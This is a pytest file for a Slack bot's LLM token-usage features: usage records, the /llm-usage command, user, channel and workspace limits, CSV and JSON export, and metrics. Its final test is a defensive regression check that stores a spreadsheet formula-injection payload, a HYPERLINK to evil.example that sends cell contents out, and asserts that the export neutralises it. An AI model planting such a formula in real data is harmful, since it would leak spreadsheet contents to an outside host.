"""Usage per answer through the real app: records, `/llm-usage`, limits, the export, metrics."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
from contextlib import redirect_stderr, redirect_stdout
from datetime import UTC, datetime
from typing import Any
from unittest import mock

import pytest

from bot.db.models import UsageRecord
from bot.testing.clock import FakeWallClock
from bot.testing.harness import Harness, text_of
from bot.testing.openai import text_reply, tool_call_reply
from bot.usage.record import UsageLedger
from bot.usage.summary import UsageSummary

USAGE = {
    "prompt_tokens": 120,
    "completion_tokens": 30,
    "total_tokens": 150,
    "prompt_tokens_details": {"cached_tokens": 100},
    "completion_tokens_details": {"reasoning_tokens": 10},
}
PRICES = {"fake-model": {"input": 2.0, "output": 8.0, "cached_input": 0.5}}


def used(prompt: int, completion: int) -> dict[str, int]:
    return {
        "prompt_tokens": prompt,
        "completion_tokens": completion,
        "total_tokens": prompt + completion,
    }


async def records(bot: Harness) -> list[UsageRecord]:
    assert bot.runtime is not None
    return [row async for row in UsageLedger(bot.runtime.engine).records()]


async def ask(
    bot: Harness, text: str, *, channel: str = "C1", user: str = "U1", **reply: Any
) -> str:
    """Mention the bot, wait for the whole answer, and return what the reply shows."""
    if reply:
        bot.llm.script(text_reply(reply.pop("answer", "Sure."), **reply))
    event = await bot.mention(text, channel=channel, user=user)
    replies = await bot.wait_reply_done(channel, event["ts"])
    return text_of(replies[0])


async def usage_command(bot: Harness, *, user: str = "U1", channel: str = "C1") -> str:
    status, body = await bot.command("/llm-usage", channel=channel, user=user)
    assert status == 200, body
    answer = json.loads(body)
    assert answer["response_type"] == "ephemeral"
    return str(answer["text"])


async def test_usage_is_recorded_from_the_servers_usage_chunk(bot: Harness) -> None:
    assert await ask(bot, "hello", answer="Hi there.", usage=USAGE) == "Hi there."
    [row] = await records(bot)
    assert (row.team_id, row.channel_id, row.user_id, row.model) == ("T1", "C1", "U1", "fake-model")
    assert (row.prompt_tokens, row.completion_tokens, row.total_tokens) == (120, 30, 150)
    assert (row.cached_tokens, row.reasoning_tokens) == (100, 10)
    assert not row.estimated
    assert (row.tool_calls, row.rounds, row.status) == (0, 1, "complete")
    assert row.duration >= 0 and row.message_ts == row.thread_ts


async def test_usage_is_summed_across_tool_rounds(bot: Harness) -> None:
    bot.llm.script(
        tool_call_reply([("call_1", "current_datetime", "{}")], usage=used(200, 20)),
        text_reply("It is noon.", usage=used(260, 12)),
    )
    assert await ask(bot, "what time is it?") == "It is noon."
    [row] = await records(bot)
    assert (row.prompt_tokens, row.completion_tokens, row.total_tokens) == (460, 32, 492)
    assert (row.tool_calls, row.rounds, row.estimated) == (1, 2, False)


async def test_usage_is_estimated_when_the_server_sends_no_usage_chunk(bot: Harness) -> None:
    answer = "A reply from a server that ignores include_usage."
    assert await ask(bot, "hello there", answer=answer, omit_usage=True) == answer
    assert bot.llm.requests[0]["stream_options"] == {"include_usage": True}
    [row] = await records(bot)
    assert row.estimated
    # UTF-8 bytes / 3, rounded up: the same estimate the history budget uses.
    assert row.completion_tokens == -(-len(answer.encode()) // 3)
    assert row.prompt_tokens > 0 and row.total_tokens == row.prompt_tokens + row.completion_tokens
    text = await usage_command(bot)
    assert f"Today: {row.total_tokens:,} tokens in 1 answer (partly estimated)" in text, text


async def test_a_resumed_stream_adds_the_broken_attempt_as_an_estimate(bot: Harness) -> None:
    text = "one two three four five six seven eight nine ten"
    bot.llm.script(text_reply(text, cut_after=4), text_reply(text, usage=used(50, 10)))
    assert await ask(bot, "count") == text
    [row] = await records(bot)
    assert row.rounds == 2 and row.estimated
    assert row.prompt_tokens > 50 and row.completion_tokens > 10


async def test_llm_usage_shows_the_askers_day_and_month_with_money(harness: Harness) -> None:
    wall = FakeWallClock(datetime(2026, 11, 25, 23, 0, tzinfo=UTC))
    harness.wall = wall
    bot = await harness.start(model_prices=PRICES, usage_limit_user_daily_tokens=1000)
    await ask(bot, "first", usage=USAGE)
    wall.advance(hours=2)  # the next day, same month
    await ask(bot, "second", usage=used(100, 50))
    await ask(bot, "not mine", user="U2", usage=used(999, 1))
    text = await usage_command(bot)
    # Today 150 tokens: 100 x $2 + 50 x $8 per million = $0.0006. The month adds the first
    # answer: 20 x $2 + 100 x $0.5 (cached) + 30 x $8 = $0.00033 more.
    assert "Today: 150 tokens in 1 answer · $0.0006" in text, text
    assert "This month: 300 tokens in 2 answers · $0.0009" in text, text
    assert "Your daily limit: 150 of 1,000 tokens used; resets on 27 November at 00:00 UTC" in text
    assert "<@U2>" not in text and "Top users" not in text, "only admins see the others"
    summary = UsageSummary(bot.runtime.bot.dispatcher.usage)  # type: ignore[union-attr,arg-type]
    assert await summary("T1", "U1") == (
        "Today: 150 tokens in 1 answer · $0.0006\nThis month: 300 tokens in 2 answers · $0.0009"
    )


async def test_llm_usage_for_an_admin_adds_top_users_and_channels(bot: Harness) -> None:
    bot.slack.add_user("UADMIN", is_admin=True)
    await ask(bot, "a", user="U1", usage=used(100, 0))
    await ask(bot, "b", user="U2", channel="C2", usage=used(300, 0))
    await ask(bot, "c", user="U2", channel="C1", usage=used(50, 0))
    text = await usage_command(bot, user="UADMIN")
    assert "Your usage" in text and "Today: nothing yet" in text
    assert "This workspace this month*\n• 450 tokens in 3 answers" in text, text
    users = text.split("*Top users this month*\n")[1].split("\n*")[0]
    assert users == "1. <@U2>: 350 tokens in 2 answers\n2. <@U1>: 100 tokens in 1 answer"
    channels = text.split("*Top channels this month*\n")[1]
    assert channels == "1. <#C2>: 300 tokens in 1 answer\n2. <#C1>: 150 tokens in 2 answers"
    assert [c.args["user"] for c in bot.slack.calls_to("users.info")][-1] == "UADMIN"


async def test_user_daily_limit_stops_the_model_and_resets_next_day(harness: Harness) -> None:
    wall = FakeWallClock(datetime(2026, 11, 25, 15, 30, tzinfo=UTC))
    harness.wall = wall
    bot = await harness.start(usage_limit_user_daily_tokens=100)
    await ask(bot, "first", usage=used(80, 30))  # 110: over the limit from now on
    asked = len(bot.llm.requests)
    refused = await ask(bot, "second")
    assert refused == (
        ":no_entry: You have used your daily limit of 100 tokens; "
        "it resets on 26 November at 00:00 UTC."
    )
    assert len(bot.llm.requests) == asked, "the model is not asked"
    assert len(await records(bot)) == 1
    assert await ask(bot, "someone else", user="U2", usage=used(1, 1)) == "Sure."
    wall.advance(hours=8, minutes=30)  # 00:00 the next day
    assert await ask(bot, "third", usage=used(1, 1)) == "Sure."


async def test_channel_daily_limit_counts_everyone_in_the_channel(harness: Harness) -> None:
    wall = FakeWallClock(datetime(2026, 11, 25, 9, 0, tzinfo=UTC))
    harness.wall = wall
    bot = await harness.start(usage_limit_channel_daily_tokens=100, usage_timezone="Europe/Berlin")
    await ask(bot, "first", user="U1", usage=used(90, 10))
    asked = len(bot.llm.requests)
    assert await ask(bot, "mine now?", user="U2") == (
        ":no_entry: This channel has used its daily limit of 100 tokens; "
        "it resets on 26 November at 00:00 CET."
    )
    assert len(bot.llm.requests) == asked
    assert await ask(bot, "elsewhere", user="U2", channel="C2", usage=used(1, 1)) == "Sure."
    wall.advance(hours=14)  # 23:00 UTC is midnight in Berlin
    assert await ask(bot, "again", user="U2", usage=used(1, 1)) == "Sure."


async def test_team_monthly_limit_and_the_admin_exemption(harness: Harness) -> None:
    wall = FakeWallClock(datetime(2026, 11, 30, 20, 0, tzinfo=UTC))
    harness.wall = wall
    harness.slack.add_user("UADMIN", is_owner=True)
    bot = await harness.start(usage_limit_team_monthly_tokens=500, usage_limit_exempt="admins")
    await ask(bot, "big", user="U1", usage=used(450, 60))
    asked = len(bot.llm.requests)
    assert await ask(bot, "hello", user="U2", channel="C2") == (
        ":no_entry: This workspace has used its monthly limit of 500 tokens; "
        "it resets on 1 December at 00:00 UTC."
    )
    assert len(bot.llm.requests) == asked
    assert await ask(bot, "admin here", user="UADMIN", usage=used(5, 5)) == "Sure."
    text = await usage_command(bot, user="UADMIN")
    assert "Monthly limit: 500 of 500 tokens used; resets on 1 December at 00:00 UTC" in text
    wall.advance(hours=4)  # December
    assert await ask(bot, "new month", user="U2", usage=used(1, 1)) == "Sure."


async def _cli(*args: str, url: str, prices: dict | None = None) -> tuple[int, str]:
    """Run `python -m bot ARGS` in-process (its own event loop, in a thread)."""
    from bot.__main__ import main

    out, err = io.StringIO(), io.StringIO()
    env = {"DATABASE_URL": url, "MODEL_PRICES": json.dumps(prices or {})}

    def run() -> int:
        with mock.patch.dict(os.environ, env), redirect_stdout(out), redirect_stderr(err):
            return main(list(args))

    code = await asyncio.to_thread(run)
    return code, out.getvalue() or err.getvalue()


async def test_usage_export_as_json_lines_and_csv(harness: Harness) -> None:
    wall = FakeWallClock(datetime(2026, 10, 31, 12, 0, tzinfo=UTC))
    harness.wall = wall
    bot = await harness.start()
    await ask(bot, "october", usage=used(1000, 500))
    wall.advance(days=1)
    await ask(bot, "november", user="U2", usage=USAGE)
    url = harness.database_url
    code, out = await _cli("usage", url=url, prices=PRICES)
    assert code == 0, out
    lines = [json.loads(line) for line in out.splitlines()]
    assert [(r["user_id"], r["total_tokens"], r["created_at"][:10]) for r in lines] == [
        ("U1", 1500, "2026-10-31"),
        ("U2", 150, "2026-11-01"),
    ]
    assert lines[0]["cost"] == pytest.approx(0.006)  # 1000 x $2 + 500 x $8 per million
    assert lines[1]["estimated"] is False and lines[1]["reasoning_tokens"] == 10
    code, out = await _cli("usage", "--since", "2026-11-01", "--csv", url=url)
    assert code == 0, out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["user_id"], r["prompt_tokens"], r["cached_tokens"], r["cost"]) for r in rows] == [
        ("U2", "120", "100", "")  # no MODEL_PRICES: no cost
    ]


async def test_erase_user_and_export_user_cover_usage_records(bot: Harness) -> None:
    await ask(bot, "mine", user="U1", usage=used(10, 5))
    await ask(bot, "theirs", user="U2", usage=used(20, 5))
    url = bot.database_url
    code, out = await _cli("export-user", "U1", url=url)
    assert code == 0, out
    assert [r["total_tokens"] for r in json.loads(out)["usage"]] == [15]
    code, out = await _cli("erase-user", "U1", url=url)
    assert code == 0, out
    assert [r.user_id for r in await records(bot)] == ["U2"]


async def test_token_metrics_label_only_configured_models(bot: Harness) -> None:
    await ask(bot, "hello", usage=USAGE)
    channels = bot.runtime.bot.dispatcher.channels  # type: ignore[union-attr]
    from bot.turns.channel_settings import ChannelConfig

    await channels.save("T1", "C2", ChannelConfig(model="someones-typo-model"))  # type: ignore[union-attr]
    await ask(bot, "elsewhere", channel="C2", usage=used(7, 3))
    page = await bot.scrape()
    assert (
        'slackbot_model_tokens_total{kind="prompt",model="fake-model",source="reported"} 120.0'
        in page
    )
    assert (
        'slackbot_model_tokens_total{kind="cached",model="fake-model",source="reported"} 100.0'
        in page
    )
    assert 'slackbot_model_tokens_total{kind="prompt",model="other",source="reported"} 7.0' in page
    assert "someones-typo-model" not in page


async def test_refusals_are_counted_by_limit(harness: Harness) -> None:
    bot = await harness.start(usage_limit_channel_daily_tokens=10)
    await ask(bot, "first", usage=used(10, 1))
    await ask(bot, "second")
    page = await bot.scrape()
    assert 'slackbot_usage_limited_total{scope="channel"} 1.0' in page


async def test_limit_sentence_in_a_native_stream_reply(harness: Harness) -> None:
    bot = await harness.start(stream_mode="native", usage_limit_user_daily_tokens=10)
    await ask(bot, "first", usage=used(10, 1))
    asked = len(bot.llm.requests)
    refused = await ask(bot, "second")
    assert refused.startswith(":no_entry: You have used your daily limit of 10 tokens;"), refused
    assert len(bot.llm.requests) == asked


async def test_usage_csv_writes_user_controlled_fields_unescaped(harness: Harness) -> None:
    """Review finding: a cell starting with =, +, -, @ is a formula in a spreadsheet."""
    bot = await harness.start()
    channels = bot.runtime.bot.dispatcher.channels  # type: ignore[union-attr]
    from bot.turns.channel_settings import ChannelConfig

    # Stored before model names were limited to a safe character set (or by hand).
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    await channels.save("T1", "C2", ChannelConfig(model=evil))  # type: ignore[union-attr]
    await ask(bot, "elsewhere", channel="C2", usage=used(7, 3))
    code, out = await _cli("usage", "--csv", url=harness.database_url)
    assert code == 0, out
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["model"] == "'" + evil, "shown as text, never run as a formula"
    assert row["prompt_tokens"] == "7", "numbers stay numbers"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
